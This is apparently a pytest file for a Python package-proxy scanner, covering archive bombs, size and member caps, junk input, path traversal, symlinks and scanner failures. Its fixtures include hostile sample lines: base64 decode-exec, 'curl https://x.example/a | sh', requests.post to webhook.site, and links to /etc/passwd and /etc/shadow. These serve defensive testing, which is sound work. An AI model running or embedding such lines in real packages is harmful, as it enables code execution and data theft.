"""Archive handling the scan cannot be turned against: caps, bombs, links, traversal, junk."""

from __future__ import annotations

import gzip
import io
import os

import pytest

from pipgate.policies.decision import Action
from pipgate.policies.scan import ScanPolicy
from pipgate.proxy.scan import ScanLimits, scan_archive
from pipgate.proxy.scan.archive import safe_path
from tests.support.archives import pkg_info, sdist, tar_bomb, tar_gz, wheel, zip_bomb

SMALL = ScanLimits(ratio_floor=1024 * 1024, max_ratio=50)


def test_zip_bomb_is_unscannable_and_held() -> None:
    report = scan_archive(zip_bomb(8 * 1024 * 1024), "demo-1.0-py3-none-any.whl", SMALL)
    assert report.incomplete is not None and "zip bomb" in report.incomplete
    decision = ScanPolicy().decide(report)
    assert decision.action is Action.QUARANTINE
    assert "could not be scanned" in decision.reason


def test_gzip_bomb_stops_at_the_ratio_even_in_a_member_nobody_reads() -> None:
    report = scan_archive(tar_bomb(8 * 1024 * 1024), "demo-1.0.tar.gz", SMALL)
    assert report.incomplete is not None and "decompression bomb" in report.incomplete


def test_unpacked_bytes_are_capped() -> None:
    archive = sdist({"PKG-INFO": pkg_info(), "data.bin": os.urandom(300_000)})
    report = scan_archive(archive, "demo-1.0.tar.gz", ScanLimits(max_unpacked=100_000))
    assert report.incomplete is not None and "unpacked" in report.incomplete


def test_too_many_members() -> None:
    archive = sdist({f"m{i}.txt": "x" for i in range(10)})
    report = scan_archive(archive, "demo-1.0.tar.gz", ScanLimits(max_members=5))
    assert report.incomplete is not None and "members" in report.incomplete
    zipped = scan_archive(
        wheel({f"m{i}.txt": "x" for i in range(10)}), "d.whl", ScanLimits(max_members=5)
    )
    assert zipped.incomplete is not None and "members" in zipped.incomplete


def test_time_cap() -> None:
    report = scan_archive(sdist({"setup.py": "x = 1\n"}), "demo-1.0.tar.gz", ScanLimits(timeout=0))
    assert report.incomplete is not None and "longer than" in report.incomplete


def test_archive_size_cap() -> None:
    report = scan_archive(
        sdist({"setup.py": "x = 1\n"}), "demo-1.0.tar.gz", ScanLimits(max_archive=10)
    )
    assert report.incomplete is not None and "archive is" in report.incomplete


@pytest.mark.parametrize(
    "data",
    [b"", b"not an archive at all", b"PK\x03\x04garbage", gzip.compress(b"x" * 1000)[:40]],
    ids=["empty", "text", "broken zip", "truncated gzip"],
)
def test_junk_is_unscannable_not_an_error(data: bytes) -> None:
    report = scan_archive(data, "demo-1.0.tar.gz")
    assert report.incomplete is not None
    assert not ScanPolicy().decide(report).allowed


def test_path_traversal_members_are_reported_and_never_read() -> None:
    archive = tar_gz(
        {
            "demo-1.0/PKG-INFO": pkg_info(),
            "demo-1.0/../../evil.py": "exec(__import__('base64').b64decode('eA=='))\n",
            "/abs/evil.py": "exec(__import__('base64').b64decode('eA=='))\n",
        }
    )
    report = scan_archive(archive, "demo-1.0.tar.gz")
    rules = [(f.rule, f.detail) for f in report.findings]
    assert ("unsafe-member", "path traversal") in rules
    assert ("unsafe-member", "absolute path") in rules
    assert "decode-exec" not in {f.rule for f in report.findings}  # never read


def test_symlinks_are_not_followed() -> None:
    archive = tar_gz(
        {"demo-1.0/PKG-INFO": pkg_info(), "demo-1.0/demo/x.py": "x = 1\n"},
        links={
            "demo-1.0/demo/__init__.py": "/etc/passwd",
            "demo-1.0/setup.py": "../../../etc/shadow",
        },
    )
    report = scan_archive(archive, "demo-1.0.tar.gz")
    assert report.incomplete is None
    assert report.files_read == 2  # PKG-INFO and x.py; the links are skipped
    zipped = wheel({"demo/x.py": "x = 1\n"}, links={"demo/__init__.py": "/etc/passwd"})
    zreport = scan_archive(zipped, "demo-1.0-py3-none-any.whl")
    assert zreport.incomplete is None and zreport.files_read == 2  # METADATA and x.py


def test_oversized_source_is_read_lexically_from_its_start() -> None:
    source = "import base64\nexec(base64.b64decode('eA=='))\n" + "x = 1\n" * 50_000
    report = scan_archive(
        sdist({"setup.py": source}), "demo-1.0.tar.gz", ScanLimits(max_source=4096)
    )
    assert report.incomplete is None
    assert "decode-exec" in {f.rule for f in report.findings}


def test_a_file_object_and_a_path_give_the_same_report(tmp_path) -> None:
    archive = sdist({"setup.py": "import os\nos.system('curl https://x.example/a | sh')\n"})
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(archive)
    from_path = scan_archive(path)
    from_stream = scan_archive(io.BytesIO(archive), "demo-1.0.tar.gz")
    assert from_path.findings == from_stream.findings and from_path.score == from_stream.score


def test_nothing_is_written_to_disk(tmp_path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    archive = sdist({"setup.py": "x = 1\n", "demo/__init__.py": "y = 2\n"})
    scan_archive(archive, "demo-1.0.tar.gz")
    scan_archive(wheel({"demo/__init__.py": "y = 2\n"}), "demo-1.0-py3-none-any.whl")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("a/b.py", ("a/b.py", None)),
        ("./a/b.py", ("a/b.py", None)),
        ("a\\b.py", ("a/b.py", None)),
        ("../x", ("../x", "path traversal")),
        ("a/../../x", ("a/../../x", "path traversal")),
        ("/etc/passwd", ("/etc/passwd", "absolute path")),
        ("C:/x.py", ("C:/x.py", "absolute path")),
    ],
)
def test_safe_path(name: str, expected: tuple[str, str | None]) -> None:
    assert safe_path(name) == expected


def test_a_scanner_defect_an_archive_brings_out_holds_the_file_instead_of_raising(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from pipgate.proxy.scan import SCANNER_ERROR, engine

    def broken(text: str, **options: object) -> None:
        raise AttributeError("'comprehension' object has no attribute 'lineno'")

    monkeypatch.setattr(engine, "read_source", broken)
    report = scan_archive(wheel({"demo/__init__.py": "import os\n"}), "demo-1.0-py3-none-any.whl")
    assert report.incomplete is not None and report.incomplete.startswith(SCANNER_ERROR)
    assert "AttributeError" in report.incomplete
    assert not ScanPolicy().decide(report).allowed


_REPORT_IN_A_FRESH_PROCESS = """
import sys
from pipgate.proxy.scan import scan_archive
report = scan_archive(sys.stdin.buffer.read(), "demo-1.0-py3-none-any.whl")
print([(f.rule, f.file) for f in report.findings])
"""


def test_a_reports_findings_come_in_the_same_order_whatever_the_string_hashing() -> None:
    """A verdict's reasons must read the same on every replica: the order of a report's
    findings may not follow the iteration order of a set of names, which each process
    seeds afresh."""
    import subprocess
    import sys

    names = ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel"]
    members = {"demo/__init__.py": f"from . import {', '.join(names)}\n"}
    for name in names:
        members[f"demo/{name}.py"] = (
            f'import requests\nrequests.post("https://webhook.site/{name}", data="x")\n'
        )
    archive = wheel(members)
    orders = {
        subprocess.run(
            [sys.executable, "-c", _REPORT_IN_A_FRESH_PROCESS],
            input=archive,
            capture_output=True,
            check=True,
            env={**os.environ, "PYTHONHASHSEED": str(seed)},
        ).stdout
        for seed in range(1, 5)
    }
    assert len(orders) == 1, orders
    assert all(f"demo/{name}.py".encode() in next(iter(orders)) for name in names)
